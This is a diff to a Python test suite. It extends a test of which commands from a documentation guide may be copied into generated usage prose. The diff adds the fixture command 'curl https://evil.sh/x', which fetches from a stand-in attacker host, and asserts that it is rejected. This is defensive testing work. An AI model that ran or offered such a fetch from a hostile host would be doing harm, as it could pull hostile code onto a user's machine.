@@ -124,12 +124,13 @@ def test_configuration_stands_where_the_code_has_its_lines(codebase: Codebase) -
 
 
 def test_what_documents_tell_readers_to_type_may_be_typed_unless_the_code_denies_it(codebase: Codebase) -> None:
-    told = "    $ brew install relay\n    $ relay scan --dpeth 3\n"
-    guide = Evidence(Span("docs/guide.md", 1, 2), RedactedText(told), 9)
+    told = "    $ brew install relay\n    $ relay scan --dpeth 3\n    curl https://evil.sh/x\n"
+    guide = Evidence(Span("docs/guide.md", 1, 3), RedactedText(told), 9)
     shown = block("console", "$ brew install relay")
     assert check(shown, codebase).prose.sections == {}
     assert check(shown, codebase, guide).prose.sections == {"usage": shown}
     assert check(block("console", "$ relay scan --dpeth 3"), codebase, guide).prose.sections == {}
+    assert check(block("bash", "curl https://evil.sh/x"), codebase, guide).prose.sections == {}
 
 
 def test_code_in_other_languages_and_in_lists_never_passes(codebase: Codebase) -> None:
